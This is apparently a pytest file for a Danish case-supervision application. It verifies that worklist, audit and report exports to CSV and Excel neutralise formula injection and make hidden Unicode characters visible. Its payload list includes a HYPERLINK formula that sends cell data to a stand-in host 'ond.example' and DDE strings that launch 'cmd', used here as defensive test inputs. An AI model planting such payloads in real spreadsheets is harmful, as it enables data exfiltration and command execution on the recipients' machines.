"""Every export with names and ids that try to run as a formula or hide characters: the worklist
as CSV and Excel (web and the writers `tilsyn frister` uses), the audit workbook, the reports'
sheets and the result CSVs. Read back with openpyxl and csv: no cell from the data is a formula,
every such text is inert ('…), the invisible characters are written out, numbers stay numbers;
the pages show the names with the characters made visible."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pandas as pd
import polars as pl
import pytest
from fastapi.testclient import TestClient
from webhjaelp import TabelResultater, log_ind

from tilsyn import celler
from tilsyn.reports import render
from tilsyn.reports.arbejdslister import skriv_arbejdslister
from tilsyn.resultater import skriv_csv, skriv_csv_dansk
from tilsyn.resultater.arbejdsliste import KOLONNER_MENNESKER
from tilsyn.supervision import revision as revisioner, sager
from tilsyn.web.app import create_app

NYTTELAST = ['=HYPERLINK("http://ond.example/?"&A1;"Klik")', "+45 cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
FARLIG = tuple(celler.FORMEL_START)
SKJULT = "Ole\u202eNESNAH\u200b"  # a right-to-left override and a zero-width space


class Ondsindede(TabelResultater):
    """The hand-built world with a caseworker and citizens whose names are the payloads."""

    def sagsbehandlere(self, kommune_kode):
        return super().sagsbehandlere(kommune_kode).with_columns(
            pl.when(pl.col("sagsbehandler_id") == "s1").then(pl.lit(NYTTELAST[3]))
            .when(pl.col("sagsbehandler_id") == "s3").then(pl.lit(SKJULT)).otherwise(pl.col("navn")).alias("navn"))

    def personnavne(self, kommune_kode):
        rows = [("p1", NYTTELAST[0]), ("p2", NYTTELAST[1]), ("p3", NYTTELAST[2]), ("p5", NYTTELAST[4])]
        return pl.DataFrame(rows if kommune_kode == "0101" else [], schema=["person_id", "navn"], orient="row")


def _ingen_formler(data: bytes) -> list:
    """Every cell value of the workbook; fails on a formula cell or text a spreadsheet would run."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    vaerdier = []
    for ws in wb.worksheets:
        assert "\u202e" not in ws.title
        for raekke in ws.iter_rows():
            for c in raekke:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert not c.value.startswith(FARLIG), (ws.title, c.coordinate, c.value)
                    assert "\u202e" not in c.value and "\u200b" not in c.value
                vaerdier.append(c.value)
    return vaerdier


def _csv_celler(tekst: str, skille: str) -> list[str]:
    celler_ = [v for r in csv.reader(io.StringIO(tekst.lstrip("\ufeff")), delimiter=skille) for v in r]
    assert all(not v.startswith(FARLIG) or celler._TAL.fullmatch(v) or v == "-" for v in celler_), celler_
    return celler_


@pytest.fixture
def ond_klient(verden):
    with TestClient(create_app(verden["tmp"] / "lager.duckdb", verden["url"], resultater=Ondsindede())) as k:
        yield k


def test_arbejdslisten_som_csv_og_excel_fra_web(ond_klient):
    log_ind(ond_klient, "jc")
    svar = ond_klient.get("/kommuner/0101/frister.xlsx?dato=2024-06-15")
    assert svar.status_code == 200
    vaerdier = _ingen_formler(svar.content)
    assert "'" + NYTTELAST[0] in vaerdier and "'" + NYTTELAST[3] in vaerdier
    assert "Ole[U+202E]NESNAH[U+200B]" in vaerdier
    svar = ond_klient.get("/kommuner/0101/frister.csv?dato=2024-06-15")
    celle_tekster = _csv_celler(svar.content.decode("utf-8"), ";")
    assert "'" + NYTTELAST[1] in celle_tekster and "'" + NYTTELAST[2] in celle_tekster

    # the page shows the same names with the hidden characters written out
    side = ond_klient.get("/kommuner/0101/frister?dato=2024-06-15").text
    assert "Ole[U+202E]NESNAH[U+200B]" in side and "\u202e" not in side and "\u200b" not in side


def test_fokusrevisionens_regneark(ond_klient, verden):
    with verden["sessions"]() as s:
        sag = s.get(sager.Sag, verden["sager"]["0101"])
        sager.registrer(s, sag.id, sag.version, "brev_sendt", date(2024, 4, 10), "star")
        passive = [(p, "kontanthjaelp") for p in NYTTELAST[:3]]
        r = revisioner.opret_revision(s, sag.id, date(2024, 6, 1), passive, seed=1, )
        for rs in r.sager:
            revisioner.vurder(s, r.id, rs.person_id, "andet_gyldigt", "=star", note=NYTTELAST[0])
        s.commit()
        sag_id = sag.id
    log_ind(ond_klient, "star")
    svar = ond_klient.get(f"/sager/{sag_id}/fokusrevision.xlsx")
    assert svar.status_code == 200
    vaerdier = _ingen_formler(svar.content)
    assert "'" + NYTTELAST[0] in vaerdier and "'=star" in vaerdier


def test_skriverne_selv(tmp_path):
    """The writers the CLI and the reports use: the worklist workbook (`tilsyn frister --xlsx`),
    a report sheet, the result CSV and the CSV for Danish Excel."""
    linjer = [{k: "x" for k in KOLONNER_MENNESKER} | {
        "borger": p, "navn": p, "frist": date(2024, 6, 1), "ansvarlig_id": "s1", "status": "overskredet",
        "note_tekst": p, "lokal_norm": False, "mangler_aftale": True} for p in NYTTELAST]
    skriv_arbejdslister(linjer, tmp_path / "liste.xlsx", "0101", date(2024, 6, 15), {"s1": SKJULT})
    vaerdier = _ingen_formler((tmp_path / "liste.xlsx").read_bytes())
    assert all("'" + p in vaerdier for p in NYTTELAST if not p.startswith("\r"))

    df = pd.DataFrame({"Kommune": NYTTELAST, "Forskel (pct.-point)": [-1.5, -2.0, 3.0, 0.0, -0.25, 1.0]})
    out = io.BytesIO()
    with celler.excel(out) as writer:
        render.excel_ark(writer, "Ark", df, "Tabel 1")
    wb = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    tal = [c.value for c in wb["Ark"]["B"][3:]]
    assert tal == [-1.5, -2.0, 3.0, 0.0, -0.25, 1.0]  # negative numbers are numbers
    _ingen_formler(out.getvalue())

    frame = pl.DataFrame({"person_id": NYTTELAST, "forskel": [-1.5, -2.0, 3.0, 0.0, -0.25, 1.0],
                          "tekst_tal": ["-12", "-3,5", "-", "a", "b", "c"]})
    skriv_csv(frame, tmp_path / "r.csv")
    celle_tekster = _csv_celler((tmp_path / "r.csv").read_text(encoding="utf-8"), ",")
    assert "-1.50" in celle_tekster and "-12" in celle_tekster and "-" in celle_tekster
    skriv_csv_dansk(frame.to_dicts(), {"person_id": "Borger", "forskel": "Forskel"}, tmp_path / "d.csv")
    celle_tekster = _csv_celler((tmp_path / "d.csv").read_text(encoding="utf-8"), ";")
    assert "-1,50" in celle_tekster and "'" + NYTTELAST[2] in celle_tekster
